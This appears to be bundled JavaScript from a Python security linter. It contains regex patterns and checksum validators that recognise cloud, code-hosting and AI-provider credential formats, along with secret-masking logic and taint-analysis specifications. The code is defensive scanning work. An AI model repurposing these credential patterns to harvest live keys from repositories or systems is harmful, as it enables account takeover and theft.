// dist/rules/hardcoded-secret/support/provider-formats.js
function hasValidBase62Checksum(token, prefixLength) {
  const body = token.slice(prefixLength, -6);
  let value = (0, import_node_zlib.crc32)(body);
  let encoded = "";
  for (; value > 0; value = Math.floor(value / 62))
    encoded = BASE62[value % 62] + encoded;
  return encoded.padStart(6, "0") === token.slice(-6);
}
function isStandInValue(value) {
  return DOCUMENTED_EXAMPLES.has(value) || /(.)\1{5}|x{4}|\.\.\.|example|your[-_]?|dummy|fake|sample|placeholder|redacted|changeme/i.test(value);
}
function hasTypedRun(value) {
  return /abcd|bcde|cdef|0123|1234|2345|3456|4567|5678|6789/i.test(value);
}
function pemBody(body) {
  return body.split(/\\[rn]|\s+/).filter((line) => line !== "" && !line.includes(":")).join("");
}
var import_node_zlib, START, END, BASE62, DOCUMENTED_EXAMPLES, URL_PASSWORD_STAND_INS, LOCAL_HOST, TEXT_FORMATS, NAMED_FORMATS, PROVIDER_HINTS;
var init_provider_formats = __esm({
  "dist/rules/hardcoded-secret/support/provider-formats.js"() {
    "use strict";
    import_node_zlib = require("node:zlib");
    START = "(?<![A-Za-z0-9_-])";
    END = "(?![A-Za-z0-9_-])";
    BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    DOCUMENTED_EXAMPLES = /* @__PURE__ */ new Set([
      "AKIAIOSFODNN7EXAMPLE",
      // AWS IAM user guide
      "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
      // AWS IAM user guide
      // Azurite / Azure storage emulator's well-known account key (devstoreaccount1)
      "Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw=="
    ]);
    URL_PASSWORD_STAND_INS = /^(?:(?:my|your|db)?[-_]?(?:pass(?:word|wd)?|pwd|secret)|changeme|change_?me|admin|root|test|guest|postgres|mysql|redis|rabbitmq|user|s3cr3t|\*+|x+|\.+)$/i;
    LOCAL_HOST = /^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[?::1\]?|[\w.-]*\.(?:local|localhost|test|example|invalid)|(?:[\w-]+\.)*example\.(?:com|org|net)|host|hostname|server|db|database)$/i;
    TEXT_FORMATS = [
      {
        provider: "AWS access key id",
        pattern: new RegExp(`${START}(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}${END}`, "g"),
        accept: ([id]) => !id.endsWith("EXAMPLE") && !isStandInValue(id),
        evidence: "provider-format",
        spec: "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_identifiers.html#identifiers-unique-ids"
      },
      {
        provider: "AWS secret access key",
        pattern: /aws_?secret_?access_?key["']?\s*[:=]\s*["']?([A-Za-z0-9/+]{40})(?![A-Za-z0-9/+])/gi,
        secretGroup: 1,
        accept: (match) => !isStandInValue(match[1]),
        evidence: "provider-format",
        spec: "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"
      },
      {
        provider: "GitHub token",
        pattern: new RegExp(`${START}gh[pousr]_[A-Za-z0-9]{36}${END}`, "g"),
        accept: ([token]) => hasValidBase62Checksum(token, 4),
        evidence: "provider-format",
        spec: "https://github.blog/engineering/platform-security/behind-githubs-new-authentication-token-formats/"
      },
      {
        provider: "GitHub fine-grained token",
        pattern: new RegExp(`${START}github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59}${END}`, "g"),
        accept: ([token]) => !isStandInValue(token),
        evidence: "provider-format",
        spec: "https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/about-authentication-to-github#githubs-token-formats"
      },
      {
        provider: "GitLab token",
        pattern: new RegExp(`${START}glpat-[A-Za-z0-9_-]{20,}${END}`, "g"),
        accept: ([token]) => !isStandInValue(token),
        evidence: "provider-format",
        spec: "https://docs.gitlab.com/security/tokens/#token-prefixes"
      },
      {
        provider: "Slack token",
        pattern: new RegExp(`${START}xox[abposr]-\\d{6,}-(?:\\d{6,}-){0,2}[A-Za-z0-9]{24,64}${END}`, "g"),
        accept: ([token]) => !isStandInValue(token),
        evidence: "provider-format",
        spec: "https://api.slack.com/authentication/token-types"
      },
      {
        provider: "Slack webhook",
        pattern: /https:\/\/hooks\.slack\.com\/(?:services|workflows|triggers)\/T[A-Z0-9]{8,12}\/B[A-Z0-9]{8,12}\/([A-Za-z0-9]{24})(?![A-Za-z0-9])/g,
        secretGroup: 1,
        accept: (match) => !isStandInValue(match[0]),
        evidence: "provider-format",
        spec: "https://api.slack.com/messaging/webhooks"
      },
      {
        provider: "Stripe live key",
        pattern: new RegExp(`${START}[sr]k_live_[A-Za-z0-9]{24,247}${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://docs.stripe.com/keys"
      },
      {
        provider: "Google API key",
        pattern: new RegExp(`${START}AIza[A-Za-z0-9_-]{35}${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://cloud.google.com/docs/authentication/api-keys"
      },
      {
        provider: "Azure storage account key",
        pattern: /AccountKey=([A-Za-z0-9+/]{86}==)/g,
        secretGroup: 1,
        accept: (match) => !isStandInValue(match[1]),
        evidence: "provider-format",
        spec: "https://learn.microsoft.com/en-us/azure/storage/common/storage-configure-connection-string"
      },
      {
        provider: "Twilio API key",
        pattern: new RegExp(`${START}SK[0-9a-fA-F]{32}${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://www.twilio.com/docs/iam/api-keys"
      },
      {
        provider: "SendGrid API key",
        pattern: new RegExp(`${START}SG\\.[A-Za-z0-9_-]{22}\\.[A-Za-z0-9_-]{43}${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://www.twilio.com/docs/sendgrid/ui/account-and-settings/api-keys"
      },
      {
        provider: "npm token",
        pattern: new RegExp(`${START}npm_[A-Za-z0-9]{36}${END}`, "g"),
        accept: ([token]) => hasValidBase62Checksum(token, 4),
        evidence: "provider-format",
        spec: "https://github.blog/security/announcing-npms-new-access-token-format/"
      },
      {
        provider: "PyPI token",
        // A macaroon whose base64 starts with the issuer: `pypi.org` or `test.pypi.org`.
        pattern: new RegExp(`${START}pypi-(?:AgEIcHlwaS5vcmc|AgENdGVzdC5weXBpLm9yZw)[A-Za-z0-9_-]{50,}${END}`, "g"),
        accept: ([token]) => !isStandInValue(token),
        evidence: "provider-format",
        spec: "https://pypi.org/help/#apitoken"
      },
      {
        provider: "OpenAI API key",
        // Every key format so far embeds `T3BlbkFJ`, base64 of "OpenAI".
        pattern: new RegExp(`${START}sk-(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{16,}T3BlbkFJ[A-Za-z0-9_-]{16,}${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://platform.openai.com/docs/api-reference/authentication"
      },
      {
        provider: "Anthropic API key",
        pattern: new RegExp(`${START}sk-ant-(?:api03|admin01)-[A-Za-z0-9_-]{93}AA${END}`, "g"),
        accept: ([key]) => !isStandInValue(key),
        evidence: "provider-format",
        spec: "https://docs.anthropic.com/en/api/overview#authentication"
      },
      {
        provider: "private key",
        // PEM (RFC 7468) as written in a string: real line breaks or `\n` escapes (service-account JSON), optional headers.
        pattern: /-----BEGIN ((?:[A-Z0-9]+ )*)PRIVATE KEY(?: BLOCK)?-----(?:\\[rn]|\s)*((?:\\[rn]|[\s\w+/=:,.-])*?)-----END \1PRIVATE KEY(?: BLOCK)?-----/g,
        secretGroup: 2,
        accept: (match) => pemBody(match[2]).length >= 64 && !isStandInValue(pemBody(match[2])),
        evidence: "key-material",
        spec: "https://www.rfc-editor.org/rfc/rfc7468 ; https://cloud.google.com/iam/docs/keys-create-delete"
      },
      {
        provider: "database URL with password",
        pattern: /(?<![\w+.-])(?:postgres(?:ql)?|mysql|mariadb|mssql|oracle|cockroachdb|mongodb(?:\+srv)?|rediss?|amqps?)(?:\+\w+)?:\/\/([^:/?#@\s'"]*):([^@/?#\s'"]+)@([^/?#:\s'"]+)/gi,
        secretGroup: 2,
        // Template fields (`${DB_PASSWORD}`, `%(password)s`, `{password}`, `<password>`) are not passwords.
        accept: ([, user, password, host]) => password !== user && !URL_PASSWORD_STAND_INS.test(password) && !isStandInValue(password) && !/[<>{}$%]/.test(password) && !hasTypedRun(password) && !LOCAL_HOST.test(host),
        evidence: "key-material",
        spec: "https://www.postgresql.org/docs/current/libpq-connect.html#LIBPQ-CONNSTRING-URIS ; https://www.rfc-editor.org/rfc/rfc3986#section-3.2.1"
      }
    ];
    NAMED_FORMATS = [
      {
        provider: "AWS secret access key",
        name: /aws_?secret|secret_?access_?key/i,
        value: /^[A-Za-z0-9/+]{40}$/,
        accept: (value) => !isStandInValue(value) && /[0-9]/.test(value) && /[A-Z]/.test(value) && /[a-z]/.test(value),
        spec: "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"
      },
      {
        provider: "Twilio auth token",
        name: /twilio.*(?:auth_?token|secret)/i,
        value: /^[0-9a-f]{32}$/,
        accept: (value) => !isStandInValue(value),
        spec: "https://www.twilio.com/docs/iam/api/authtoken"
      }
    ];
    PROVIDER_HINTS = [
      /AKIA|ASIA|ABIA|ACCA|gh[pousr]_|github_|glpat-|xox[abposr]-|slack\.com|[sr]k_live|AIza|AccountKey|SK[0-9a-fA-F]{4}|SG\.|npm_|pypi-|sk-|PRIVATE KEY/,
      /secret_?access|aws_?secret|twilio|postgres|mysql|mariadb|mssql|oracle|cockroach|mongodb|redis|amqp/i
    ];
  }
});

// dist/rules/hardcoded-secret/support/provider-secret-scan.js
function findProviderSecrets(text) {
  const found = [];
  for (const format of TEXT_FORMATS) {
    format.pattern.lastIndex = 0;
    for (let match = format.pattern.exec(text); match; match = format.pattern.exec(text)) {
      if (format.accept && !format.accept(match))
        continue;
      found.push({ provider: format.provider, secret: match[format.secretGroup ?? 0], evidence: format.evidence });
    }
  }
  return found;
}
function findNamedSecret(name, value) {
  for (const format of NAMED_FORMATS) {
    if (format.name.test(name) && format.value.test(value) && (!format.accept || format.accept(value))) {
      return { provider: format.provider, secret: value, evidence: "provider-format" };
    }
  }
  return void 0;
}
function literalPieces(node) {
  return writtenText(node).split(FIELD).filter((piece) => piece !== "");
}
function writtenText(node) {
  if (node.type === "concatenated_string")
    return node.namedChildren.map(writtenText).join("");
  if (node.type !== "string")
    return "";
  let text = "";
  for (const child of node.namedChildren) {
    if (child.type === "string_content")
      text += child.text;
    else if (child.type === "interpolation")
      text += FIELD;
  }
  return text;
}
var FIELD;
var init_provider_secret_scan = __esm({
  "dist/rules/hardcoded-secret/support/provider-secret-scan.js"() {
    "use strict";
    init_provider_formats();
    FIELD = "\0";
  }
});

// dist/rules/hardcoded-secret/support/redaction.js
function describeSecret(secret) {
  const shown = secret.length >= SHORTEST_WITH_PREFIX ? secret.slice(0, SHOWN_PREFIX) : "";
  return `${shown}\u2026, ${secret.length} characters`;
}
function mask(fragment) {
  const { text } = fragment;
  const shown = text.length >= SHORTEST_WITH_PREFIX ? text.slice(0, SHOWN_PREFIX) : "";
  const digest = fragment.digest ? ` #${(0, import_node_crypto.createHash)("sha256").update(text).digest("hex").slice(0, 8)}` : "";
  return `${shown}\u2026(${text.length}${digest})`;
}
function secretFragments(secret) {
  return secret.split(/\\[rn]|\s+/).filter((piece) => piece.length >= 3);
}
function maskSecrets(text, fragments) {
  let masked = text;
  for (const fragment of [...fragments].sort((a, b) => b.text.length - a.text.length)) {
    if (masked.includes(fragment.text))
      masked = masked.split(fragment.text).join(mask(fragment));
  }
  return masked;
}
function credentialIn(literal, evidence) {
  return { evidence, fragments: literalPieces(literal).flatMap(secretFragments) };
}
var import_node_crypto, SHOWN_PREFIX, SHORTEST_WITH_PREFIX;
var init_redaction = __esm({
  "dist/rules/hardcoded-secret/support/redaction.js"() {
    "use strict";
    import_node_crypto = require("node:crypto");
    init_provider_secret_scan();
    SHOWN_PREFIX = 4;
    SHORTEST_WITH_PREFIX = 16;
  }
});

// dist/engine/analyse.js
function formatLimit(ms) {
  return ms >= 1e3 ? `${ms / 1e3} s` : `${ms} ms`;
}
function analyseSource(written, rules, limits = {}) {
  const limitMs = limits.timeLimitMs ?? DEFAULT_TIME_LIMIT_MS;
  const deadline = limitMs > 0 ? performance.now() + limitMs : void 0;
  const parse = (text) => {
    try {
      return parsePython(text, deadline === void 0 ? void 0 : Math.max(1, deadline - performance.now()));
    } catch (error) {
      if (error instanceof ParseTimeout)
        throw new AnalysisTimeout("parse", limitMs);
      throw error;
    }
  };
  let source = written;
  let tree = parse(source);
  const normalised = withNormalisedIdentifiers(tree.rootNode, source);
  if (normalised !== void 0) {
    source = normalised;
    tree = parse(source);
  }
  try {
    return runRules(tree, source, written, rules, new Deadline(deadline, limits.interrupted), limitMs);
  } catch (error) {
    if (error instanceof OutOfTime)
      throw new AnalysisTimeout("rules", limitMs);
    throw error;
  }
}
function runRules(tree, source, written, rules, deadline, limitMs) {
  const root = tree.rootNode;
  const module2 = new ModuleFacts(root, source, deadline);
  const lines = source.split(/\r\n|\r|\n/);
  const shown = written === source ? lines : written.split(/\r\n|\r|\n/);
  const findings = [];
  const markers = [];
  const ruleErrors = [];
  const secretFragments2 = [];
  const dispatch = /* @__PURE__ */ new Map();
  const register = (ruleId, type, handle) => {
    const list = dispatch.get(type);
    const entry = { ruleId, handle };
    if (list)
      list.push(entry);
    else
      dispatch.set(type, [entry]);
  };
  const callFilters = new CallFilters(module2);
  for (const enabled of rules) {
    const { rule } = enabled;
    let preparation;
    try {
      preparation = prepareRule(enabled);
    } catch (error) {
      ruleErrors.push({ rule: rule.id, message: errorText(error) });
      continue;
    }
    const { options, triggers } = preparation;
    if (!isTriggered(triggers, module2))
      continue;
    const context = {
      module: module2,
      options,
      report: (descriptor) => {
        if (isMockExpectation(descriptor.node, module2))
          return;
        const finding = toFinding(rule, descriptor, lines, shown);
        if (descriptor.credential) {
          finding.credential = descriptor.credential.evidence;
          const digest = descriptor.credential.evidence === "provider-format" || descriptor.credential.evidence === "entropy";
          secretFragments2.push(...descriptor.credential.fragments.map((text) => ({ text, digest })));
        }
        findings.push(finding);
      }
    };
    try {
      const handlers = rule.create(context);
      for (const [type, handle] of Object.entries(handlers)) {
        if (handle)
          register(rule.id, type, type === "call" ? callFilters.filter(handle, preparation) : handle);
      }
    } catch (error) {
      if (error instanceof OutOfTime)
        throw error;
      ruleErrors.push({ rule: rule.id, message: errorText(error) });
    }
  }
  if (MARKER_WORD.test(source))
    register("(markers)", "comment", (node) => {
      const match = MARKER.exec(node.text);
      if (!match)
        return;
      const word = match[1].toLowerCase().replace(/\s+/g, "");
      const kind = word === "nosec" ? "nosec" : word === "noqa" ? "noqa" : word.endsWith("ignore-file") ? "ignore-file" : "ignore";
      markers.push({ line: node.startPosition.row + 1, kind, text: match[2].trim() });
    });
  let python2;
  for (const type of Object.keys(PYTHON2_STATEMENTS)) {
    if (module2.words.has(type.slice(0, type.indexOf("_"))))
      register("(python 2 syntax)", type, (node) => {
        python2 ??= node;
      });
  }
  const callHandlers = dispatch.get("call");
  const wantedCalls = callHandlers ? callFilters.wantedCalls() : void 0;
  if (wantedCalls)
    dispatch.delete("call");
  const onHandlerError = (ruleId, error) => ruleErrors.push({ rule: ruleId, message: errorText(error) });
  const found = callHandlers && wantedCalls && wantedCalls.length > 0 ? { nodes: wantedCalls, handlers: callHandlers } : void 0;
  const finished = walkTree(tree, dispatch, onHandlerError, deadline, found);
  if (!finished)
    throw new AnalysisTimeout("rules", limitMs);
  if (root.hasError)
    findings.push(syntaxErrorFinding(root, lines, shown));
  else if (python2)
    findings.push(python2Finding(python2, lines, shown));
  if (secretFragments2.length > 0)
    maskCredentials(findings, lines, shown, secretFragments2);
  findings.sort((a, b) => a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : 0));
  return { findings, markers, testSignals: testCodeSignals(module2), ruleErrors, lineCount: lines.length };
}
function toFinding(rule, descriptor, lines, shown) {
  const { node } = descriptor;
  const statement = statementOf(node);
  const [first, last] = statementRows(statement);
  const finding = {
    rule: rule.id,
    message: descriptor.message ?? rule.message,
    severity: descriptor.severity ?? rule.severity,
    confidence: descriptor.confidence ?? rule.confidence,
    line: node.startPosition.row + 1,
    column: node.startPosition.column + 1,
    endLine: node.endPosition.row + 1,
    endColumn: node.endPosition.column + 1,
    statementLines: [first + 1, last + 1],
    statementText: normaliseStatement(lines, first, last),
    sourceLine: (shown[node.startPosition.row] ?? "").slice(0, 300)
  };
  if (descriptor.flow)
    finding.flow = descriptor.flow;
  if (descriptor.auditOnly)
    finding.auditOnly = true;
  return finding;
}
function maskCredentials(findings, lines, shown, fragments) {
  const maskedLines = lines.map((line) => maskSecrets(line, fragments));
  const maskedShown = shown === lines ? maskedLines : shown.map((line) => maskSecrets(line, fragments));
  for (const finding of findings) {
    finding.statementText = normaliseStatement(maskedLines, finding.statementLines[0] - 1, finding.statementLines[1] - 1);
    finding.sourceLine = (maskedShown[finding.line - 1] ?? "").slice(0, 300);
    finding.message = maskSecrets(finding.message, fragments);
    if (finding.flow)
      finding.flow = finding.flow.map((step2) => maskSecrets(step2, fragments));
  }
}
function normaliseStatement(lines, first, last) {
  const text = lines.slice(first, Math.min(last + 1, first + 40)).map((line) => line.replace(/\s+#[^'"]*$/, "")).join(" ");
  return text.replace(/\s+/g, " ").trim().slice(0, 400);
}
function syntaxErrorFinding(root, lines, shown) {
  const { node, count } = firstError(root);
  const where = node.isMissing ? `missing ${node.type}` : "invalid syntax";
  const more = count > 1 ? ` (${count} syntax errors in the file)` : "";
  return syntaxErrorAt(node, `file does not parse: ${where}${more}; the rest of the file was still reviewed`, lines, shown);
}
function python2Finding(node, lines, shown) {
  const what = PYTHON2_STATEMENTS[node.type];
  return syntaxErrorAt(node, `file does not parse as Python 3: Python 2 ${what}; the rest of the file was still reviewed`, lines, shown);
}
function syntaxErrorAt(node, message, lines, shown) {
  const row = node.startPosition.row;
  return {
    rule: SYNTAX_ERROR_RULE,
    message,
    severity: "high",
    confidence: "high",
    line: row + 1,
    column: node.startPosition.column + 1,
    endLine: row + 1,
    endColumn: node.startPosition.column + 1,
    statementLines: [row + 1, row + 1],
    statementText: normaliseStatement(lines, row, row),
    sourceLine: (shown[row] ?? "").slice(0, 300)
  };
}
function firstError(root) {
  let first;
  let count = 0;
  const stack = [root];
  while (stack.length > 0) {
    const node = stack.pop();
    if (node.type === "ERROR" || node.isMissing) {
      count++;
      if (!first || node.startIndex < first.startIndex)
        first = node;
      if (node.type === "ERROR")
        continue;
    }
    if (!node.hasError)
      continue;
    for (const child of node.children)
      if (child.hasError || child.isMissing)
        stack.push(child);
  }
  return { node: first ?? root, count };
}
function errorText(error) {
  return error instanceof Error ? error.message : String(error);
}
var SYNTAX_ERROR_RULE, DEFAULT_TIME_LIMIT_MS, AnalysisTimeout, PYTHON2_STATEMENTS, MARKER_WORD, MARKER;
var init_analyse = __esm({
  "dist/engine/analyse.js"() {
    "use strict";
    init_syntax();
    init_module();
    init_deadline();
    init_parser();
    init_walk();
    init_test_signals();
    init_mock();
    init_rule_filters();
    init_redaction();
    SYNTAX_ERROR_RULE = "syntax-error";
    DEFAULT_TIME_LIMIT_MS = 3e4;
    AnalysisTimeout = class extends Error {
      phase;
      limitMs;
      constructor(phase, limitMs) {
        super(`too slow: ${phase === "parse" ? "parsing" : "the rules"} did not finish within ${formatLimit(limitMs)} (raise maxFileSeconds to review it)`);
        this.phase = phase;
        this.limitMs = limitMs;
      }
    };
    PYTHON2_STATEMENTS = { print_statement: "print statement", exec_statement: "exec statement" };
    MARKER_WORD = /nosec|noqa|review-security/i;
    MARKER = /#\s*(nosec\b|noqa\b|review-security\s*:\s*(?:ignore-file|ignore))\s*(.*)$/i;
  }
});

// dist/files/decode.js
function decodePython(bytes) {
  let body = bytes;
  if (body.length >= 3 && body[0] === 239 && body[1] === 187 && body[2] === 191)
    body = body.subarray(3);
  const nul = body.indexOf(0);
  if (nul >= 0)
    return { error: `binary content (NUL byte at offset ${nul})` };
  const encoding = codingCookie(body) ?? "utf-8";
  let decoder;
  try {
    decoder = new TextDecoder(encoding, { fatal: true });
  } catch {
    return { error: `unknown source encoding '${encoding}' in the coding cookie` };
  }
  let text;
  try {
    text = decoder.decode(body);
  } catch {
    return { error: encoding === "utf-8" ? "not valid UTF-8 (and no coding cookie names another encoding)" : `not valid ${encoding}` };
  }
  return { text: text.includes("\r") ? text.replace(/\r(?!\n)/g, "\n") : text };
}
function codingCookie(bytes) {
  let lineStart = 0;
  for (let line = 0; line < 2 && lineStart < bytes.length; line++) {
    let lineEnd = bytes.indexOf(10, lineStart);
    if (lineEnd < 0)
      lineEnd = bytes.length;
    const text = Buffer.from(bytes.subarray(lineStart, Math.min(lineEnd, lineStart + 200))).toString("latin1");
    const match = COOKIE.exec(text);
    if (match)
      return normaliseEncoding(match[1]);
    if (!/^\s*(#.*)?\r?$/.test(text))
      return void 0;
    lineStart = lineEnd + 1;
  }
  return void 0;
}
function normaliseEncoding(name) {
  const lower = name.toLowerCase().replace(/_/g, "-");
  if (lower === "utf-8" || lower.startsWith("utf-8-") || lower === "utf8")
    return "utf-8";
  if (lower === "latin-1" || lower.startsWith("iso-8859-1") || lower.startsWith("iso-latin-1"))
    return "latin1";
  return lower;
}
var COOKIE;
var init_decode = __esm({
  "dist/files/decode.js"() {
    "use strict";
    COOKIE = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
  }
});

// dist/files/bounded-read.js
var init_bounded_read = __esm({
  "dist/files/bounded-read.js"() {
    "use strict";
  }
});

// dist/engine/analysis-threads.js
var PARALLEL_MIN_WORK, WORK_PER_FILE;
var init_analysis_threads = __esm({
  "dist/engine/analysis-threads.js"() {
    "use strict";
    PARALLEL_MIN_WORK = 512 * 1024;
    WORK_PER_FILE = 2 * 1024;
  }
});

// dist/engine/review-files.js
function analyseContent(bytes, rules, limits) {
  const decoded = decodePython(bytes);
  if ("error" in decoded)
    return { error: decoded.error };
  try {
    return { analysis: analyseSource(decoded.text, rules, limits) };
  } catch (error) {
    if (error instanceof AnalysisTimeout)
      return { error: error.message };
    return { error: `internal error while analysing: ${error instanceof Error ? error.message : String(error)}` };
  }
}
var init_review_files = __esm({
  "dist/engine/review-files.js"() {
    "use strict";
    init_analyse();
    init_decode();
    init_bounded_read();
    init_parser();
    init_tree_sitter_tuning();
    init_analysis_threads();
  }
});

// dist/package-root.js
function findPackageRoot(from) {
  for (let dir = from; ; dir = (0, import_node_path2.dirname)(dir)) {
    if ((0, import_node_fs.existsSync)((0, import_node_path2.join)(dir, "package.json")))
      return dir;
    if ((0, import_node_path2.dirname)(dir) === dir)
      throw new Error(`no package.json above ${from}: the installation is incomplete`);
  }
}
function packagePath(...segments) {
  return (0, import_node_path2.join)(PACKAGE_ROOT, ...segments);
}
var import_node_fs, import_node_path2, import_node_url, PACKAGE_ROOT;
var init_package_root = __esm({
  "dist/package-root.js"() {
    "use strict";
    import_node_fs = require("node:fs");
    import_node_path2 = require("node:path");
    import_node_url = require("node:url");
    PACKAGE_ROOT = findPackageRoot((0, import_node_path2.dirname)((0, import_node_url.fileURLToPath)(__bundle_url)));
  }
});

// dist/engine/interrupt.js
function stopOnInterrupt(stop) {
  stoppers.add(stop);
  return () => stoppers.delete(stop);
}
var stoppers;
var init_interrupt = __esm({
  "dist/engine/interrupt.js"() {
    "use strict";
    stoppers = /* @__PURE__ */ new Set();
  }
});

// dist/python/context-managers.js
function enteredCall(identifier, module2) {
  const bindings = module2.scopeOf(identifier).bindings.get(identifier.text);
  if (bindings?.length !== 1 || bindings[0].kind !== "with")
    return void 0;
  const value = bindings[0].value;
  return value?.type === "call" ? value : void 0;
}
function callNameThroughWith(call, module2) {
  const callee = call.childForFieldName("function");
  const receiver = callee?.type === "attribute" ? callee.childForFieldName("object") : null;
  const constructor = receiver?.type === "identifier" ? enteredConstructor(receiver, module2) : void 0;
  if (constructor === void 0)
    return module2.callName(call);
  return `${constructor}().${callee.childForFieldName("attribute")?.text}`;
}
function enteredConstructor(identifier, module2) {
  for (let current = identifier.parent; current; current = current.parent) {
    if (current.type === "function_definition" || current.type === "class_definition")
      break;
    if (current.type !== "with_statement")
      continue;
    const clause = current.namedChildren.find((child) => child.type === "with_clause");
    const entered = clause?.descendantsOfType("as_pattern").find((pattern) => pattern.childForFieldName("alias")?.text === identifier.text);
    if (!entered)
      continue;
    const bindings2 = module2.scopeOf(identifier).bindings.get(identifier.text) ?? [];
    const value = entered.firstNamedChild;
    if (value?.type === "call" && bindings2.every((binding) => binding.kind === "with"))
      return module2.callName(value);
    break;
  }
  const bindings = module2.scopeOf(identifier).bindings.get(identifier.text) ?? [];
  if (bindings.length === 0 || bindings.some((binding) => binding.kind !== "with" || binding.value?.type !== "call"))
    return void 0;
  const names = new Set(bindings.map((binding) => module2.callName(binding.value)));
  return names.size === 1 ? [...names][0] : void 0;
}
var init_context_managers = __esm({
  "dist/python/context-managers.js"() {
    "use strict";
  }
});

// dist/python/taint/specs.js
var SINK_CLASSES, RANK, REQUEST_ATTRIBUTES, MIXED_REQUEST_ATTRIBUTES, CLIENT_SET_ENVIRON_KEY, REQUEST_METHODS, ACCESS_METHODS, REQUEST_PROXIES, REQUEST_PARAMETER_NAMES, REQUEST_TYPE, HANDLER_BASES, CONVERTED_ROUTE_CONVERTER, CONVERTED_PARAMETER_TYPE, CLOSED_CHOICE_TYPES, ENUM_BASES, DEPENDENCY_DEFAULT, INPUT_ATTRIBUTES, INPUT_CALLS, INPUT_BUILTINS, NETWORK_READ_METHODS, STREAM_READ_METHODS, STREAM_OPENERS, ROUTE_METHODS, VIEW_DECORATORS, STRING_METHODS, BUILDING_METHODS, PROPAGATORS, WRITER_METHODS, LIST_CONSTRUCTORS, DICT_CONSTRUCTORS, UNIVERSAL_SANITISERS, BUILTIN_SANITISERS, SINK_SANITISERS, BUILTIN_SINK_CASTS, CLEAN_CONVERSIONS, LOOKUPS, GUARD_METHODS, GUARD_FUNCTION, REGEX_MATCHERS, REGEX_METHODS, VALIDATING_CASTS, CHECK_THROUGH_CALLS, SIGNATURE_CHECKS, MAC_MESSAGE_POSITION, CHECK_THROUGH_ATTRIBUTES, EXITING_CALL;
var init_specs = __esm({
  "dist/python/taint/specs.js"() {
    "use strict";
    SINK_CLASSES = ["sql", "shell", "code", "html", "template", "redirect", "path", "url", "ldap", "xpath", "nosql", "header", "regex", "deserialization", "xml"];
    RANK = { constant: 0, sanitised: 1, unknown: 2, parameter: 3, "user-input": 4, request: 5 };
    REQUEST_ATTRIBUTES = /* @__PURE__ */ new Set([
      "GET",
      "POST",
      "COOKIES",
      "META",
      "body",
      "FILES",
      "headers",
      "data",
      "args",
      "form",
      "values",
      "json",
      "cookies",
      "files",
      "query_params",
      "path_params",
      "query_string",
      "params",
      "view_args",
      "raw_post_data",
      "stream",
      "environ",
      "query",
      "matchdict",
      "arguments",
      "query_arguments",
      "body_arguments"
    ]);
    MIXED_REQUEST_ATTRIBUTES = /* @__PURE__ */ new Set(["environ", "META"]);
    CLIENT_SET_ENVIRON_KEY = /^HTTP_|^(QUERY_STRING|PATH_INFO|CONTENT_TYPE|CONTENT_LENGTH|REQUEST_URI|RAW_URI)$/;
    REQUEST_METHODS = /* @__PURE__ */ new Set(["get_json", "json", "body", "form", "get_data", "read", "readline", "readlines", "stream"]);
    ACCESS_METHODS = /* @__PURE__ */ new Set(["get", "getlist", "getone", "getall", "get_all", "pop", "setdefault", "copy", "dict", "to_dict", "items", "values", "keys", "lists"]);
    REQUEST_PROXIES = /* @__PURE__ */ new Set(["flask.request", "quart.request", "bottle.request", "sanic.request"]);
    REQUEST_PARAMETER_NAMES = /* @__PURE__ */ new Set(["request", "req"]);
    REQUEST_TYPE = /(^|\.)(Http|WSGI|ASGI)?Request$/;
    HANDLER_BASES = [
      {
        base: /^tornado\.web\.RequestHandler$/,
        methods: /* @__PURE__ */ new Set(["get_argument", "get_arguments", "get_query_argument", "get_query_arguments", "get_body_argument", "get_body_arguments", "get_cookie", "decode_argument"]),
        attributes: /* @__PURE__ */ new Set(["path_args", "path_kwargs"])
      },
      { base: /^(django\.views|rest_framework)\./, methods: /* @__PURE__ */ new Set(), attributes: /* @__PURE__ */ new Set(["kwargs", "args"]), origin: "view-parameter" }
    ];
    CONVERTED_ROUTE_CONVERTER = /^(int|float|uuid)$/;
    CONVERTED_PARAMETER_TYPE = /^(int|float|bool|uuid\.UUID|UUID|datetime|date)$/;
    CLOSED_CHOICE_TYPES = /* @__PURE__ */ new Set(["typing.Literal", "typing_extensions.Literal"]);
    ENUM_BASES = /* @__PURE__ */ new Set(["enum.Enum", "enum.IntEnum", "enum.StrEnum", "enum.Flag", "enum.IntFlag"]);
    DEPENDENCY_DEFAULT = /^(\w+\.)?(Depends|Security)\(/;
    INPUT_ATTRIBUTES = { "sys.argv": "argv", "os.environ": "environment", "os.environb": "environment", "sys.stdin": "stdin" };
    INPUT_CALLS = {
      "os.getenv": "environment",
      "os.getenvb": "environment",
      // Command-line parsers read sys.argv: `args = argparse.ArgumentParser(...).parse_args()`, `args.name`.
      "argparse.ArgumentParser().parse_args": "argv",
      "argparse.ArgumentParser().parse_known_args": "argv",
      "argparse.ArgumentParser().parse_intermixed_args": "argv",
      "optparse.OptionParser().parse_args": "argv"
    };
    INPUT_BUILTINS = { input: "stdin", raw_input: "stdin" };
    NETWORK_READ_METHODS = /* @__PURE__ */ new Set(["recv", "recvfrom", "recv_into", "recvmsg"]);
